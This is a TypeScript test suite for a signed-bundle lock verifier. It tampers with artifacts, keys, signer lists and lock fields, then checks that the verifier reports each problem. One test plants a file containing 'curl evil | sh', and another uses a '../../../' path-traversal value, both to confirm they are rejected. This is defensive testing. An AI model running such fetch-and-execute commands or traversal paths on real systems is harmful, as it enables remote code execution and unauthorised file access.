// verify-pins on a provenact-skills lock: the checks of its verify_pins.sh, and the ones it
// misses. The repository is built here, with keys generated in the test.
import assert from 'node:assert/strict';
import { mkdir, readFile, rm, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { after, beforeEach, describe, it } from 'node:test';
import { jcsDigest, sha256 } from '../../../src/core/digest/index.js';
import { openLock, verifyLock } from '../../../src/core/pins/index.js';
import { generateSigningKey, parseSecretKey, renderSignatures, signDigest, type SecretKey } from '../../../src/core/sign/index.js';
import { removeDir, tempDir } from '../../helpers/project.js';

interface Repo {
  root: string;
  keys: Record<string, SecretKey>;
}

const WASM = Buffer.from('0061736d01000000', 'hex');

async function writeBundle(repo: Repo, id: string, version: string, signers: string[], opts: { wasm?: Buffer } = {}): Promise<Record<string, unknown>> {
  const dir = join(repo.root, 'skills', id, version);
  await mkdir(dir, { recursive: true });
  const wasm = opts.wasm ?? WASM;
  const manifest = { name: id, version, entrypoint: 'run', artifact: sha256(wasm), capabilities: [{ kind: 'fs.read', value: '/tmp' }], signers };
  const hash = jcsDigest(manifest);
  const pub: Record<string, string> = {};
  for (const s of Object.keys(repo.keys).sort()) pub[s] = (repo.keys[s] as SecretKey).publicKey;
  const keysText = JSON.stringify(pub, null, 2) + '\n';
  const signatures = { artifact: manifest.artifact, manifest_hash: hash, signatures: signers.map((s) => ({ signer: s, algorithm: 'ed25519', signature: signDigest(repo.keys[s] as SecretKey, hash) })) };
  await writeFile(join(dir, 'skill.wasm'), wasm);
  await writeFile(join(dir, 'manifest.json'), JSON.stringify(manifest, null, 2));
  await writeFile(join(dir, 'signatures.json'), renderSignatures(signatures));
  await writeFile(join(dir, 'public-keys.json'), keysText);
  await writeFile(join(dir, 'bundle-meta.json'), JSON.stringify({ artifact: manifest.artifact, manifest_hash: hash, schema_version: '1.0.0' }));
  return { id, version, bundle_dir: `skills/${id}/${version}`, artifact: manifest.artifact, manifest_hash: hash, keys_file: 'public-keys.json', keys_digest: sha256(keysText), signers: [...signers].sort() };
}

async function writeLock(repo: Repo, skills: unknown[], extra: Record<string, unknown> = {}): Promise<void> {
  await mkdir(join(repo.root, 'pins'), { recursive: true });
  const lock = { schema_version: '1.0.0', generated_at: '2026-01-01T00:00:00Z', substrate_pin: { repo: 'provenact', commit: 'a'.repeat(40) }, skills, ...extra };
  await writeFile(join(repo.root, 'pins', 'skills.lock.json'), JSON.stringify(lock, null, 2) + '\n');
}

async function codes(repo: Repo, minSigners?: number): Promise<string[]> {
  const opened = await openLock(join(repo.root, 'pins', 'skills.lock.json'), minSigners !== undefined ? { minSigners } : {});
  const ds = opened.context === undefined ? opened.diagnostics : (await verifyLock(opened.context)).diagnostics;
  return [...new Set(ds.filter((d) => d.severity === 'error').map((d) => d.code))].sort();
}

describe('provenact lock format', () => {
  let repo: Repo;
  let entries: Record<string, unknown>[];
  beforeEach(async () => {
    const keys: Record<string, SecretKey> = {};
    for (const s of ['alice.dev', 'codex.release']) keys[s] = parseSecretKey(generateSigningKey().secretKeyText, s).key as SecretKey;
    repo = { root: await tempDir('skillctl-provenact-'), keys };
    entries = [await writeBundle(repo, 'echo.minimal', '0.1.0', ['alice.dev', 'codex.release']), await writeBundle(repo, 'fs.read_text', '0.1.0', ['alice.dev', 'codex.release'])];
    await writeLock(repo, entries);
  });
  const roots: string[] = [];
  after(async () => Promise.all(roots.map(removeDir)));
  const done = (): void => void roots.push(repo.root);

  it('a consistent repository verifies (MIN_SIGNERS 2)', async () => {
    done();
    assert.deepEqual(await codes(repo), []);
  });

  it('script checks: artifact, manifest_hash, keys digest, signer set, signer count', async () => {
    done();
    const dir = join(repo.root, 'skills', 'echo.minimal', '0.1.0');
    await writeFile(join(dir, 'skill.wasm'), Buffer.from('0061736d01000001', 'hex'));
    assert.ok((await codes(repo)).includes('PIN_MODIFIED'));
    await writeFile(join(dir, 'skill.wasm'), WASM);
    await writeFile(join(dir, 'public-keys.json'), (await readFile(join(dir, 'public-keys.json'), 'utf8')) + ' ');
    assert.deepEqual(await codes(repo), ['KEYS_DIGEST_MISMATCH']);
    entries[0] = await writeBundle(repo, 'echo.minimal', '0.1.0', ['alice.dev']);
    assert.deepEqual(await codes(repo), ['PIN_MODIFIED', 'SIGNATURE_MISSING', 'TOO_FEW_SIGNERS']);
    assert.deepEqual(await codes(repo, 1), ['PIN_MODIFIED', 'SIGNATURE_MISSING']);
    await writeLock(repo, entries);
    assert.deepEqual(await codes(repo), ['TOO_FEW_SIGNERS']);
    assert.deepEqual(await codes(repo, 1), []);
  });

  it('keys_file must be a plain file name (path traversal): LOCK_INVALID', async () => {
    done();
    await writeLock(repo, [{ ...entries[0], keys_file: '../../../pins/keys.json' }]);
    assert.deepEqual(await codes(repo), ['LOCK_INVALID']);
  });

  it('gaps of verify_pins.sh: bundle_dir, identity, duplicates, unpinned, extra files, bundle-meta', async () => {
    done();
    await writeLock(repo, [entries[0], entries[0]]);
    assert.deepEqual(await codes(repo), ['PIN_DUPLICATE', 'PIN_UNPINNED']);
    await writeLock(repo, [{ ...entries[0], bundle_dir: 'skills/fs.read_text/0.1.0' }, entries[1]]);
    assert.ok((await codes(repo)).includes('PIN_SOURCE_INVALID'));
    await writeLock(repo, [{ ...entries[0], version: '0.1.1' }, entries[1]]);
    assert.ok((await codes(repo)).includes('PIN_IDENTITY_MISMATCH'));
    await writeLock(repo, entries);
    const dir = join(repo.root, 'skills', 'echo.minimal', '0.1.0');
    await writeFile(join(dir, 'payload.sh'), 'curl evil | sh');
    assert.deepEqual(await codes(repo), ['PIN_EXTRA_FILE']);
    await rm(join(dir, 'payload.sh'));
    await writeFile(join(dir, 'bundle-meta.json'), JSON.stringify({ artifact: sha256('x'), manifest_hash: sha256('y'), schema_version: '1.0.0' }));
    assert.deepEqual(await codes(repo), ['PROVENACT_BUNDLE_INVALID']);
  });

  it('a signer not declared in manifest.signers: SIGNER_UNEXPECTED', async () => {
    done();
    entries[0] = await writeBundle(repo, 'echo.minimal', '0.1.0', ['alice.dev', 'codex.release']);
    const dir = join(repo.root, 'skills', 'echo.minimal', '0.1.0');
    const m = JSON.parse(await readFile(join(dir, 'manifest.json'), 'utf8')) as { signers: string[] };
    m.signers = ['alice.dev'];
    const hash = jcsDigest(m);
    await writeFile(join(dir, 'manifest.json'), JSON.stringify(m));
    const sigs = JSON.parse(await readFile(join(dir, 'signatures.json'), 'utf8')) as { manifest_hash: string; signatures: { signer: string; signature: string }[] };
    sigs.manifest_hash = hash;
    for (const s of sigs.signatures) s.signature = signDigest(repo.keys[s.signer] as SecretKey, hash);
    await writeFile(join(dir, 'signatures.json'), JSON.stringify(sigs));
    await writeFile(join(dir, 'bundle-meta.json'), JSON.stringify({ artifact: sha256(WASM), manifest_hash: hash, schema_version: '1.0.0' }));
    await writeLock(repo, [{ ...entries[0], manifest_hash: hash }, entries[1]]);
    assert.deepEqual(await codes(repo), ['SIGNER_UNEXPECTED']);
  });

  it('schema_version and generated_at are checked: LOCK_INVALID', async () => {
    done();
    await writeLock(repo, entries, { schema_version: '2.0.0' });
    assert.deepEqual(await codes(repo), ['LOCK_INVALID']);
    await writeLock(repo, entries, { generated_at: 'yesterday' });
    assert.deepEqual(await codes(repo), ['LOCK_INVALID']);
  });
});
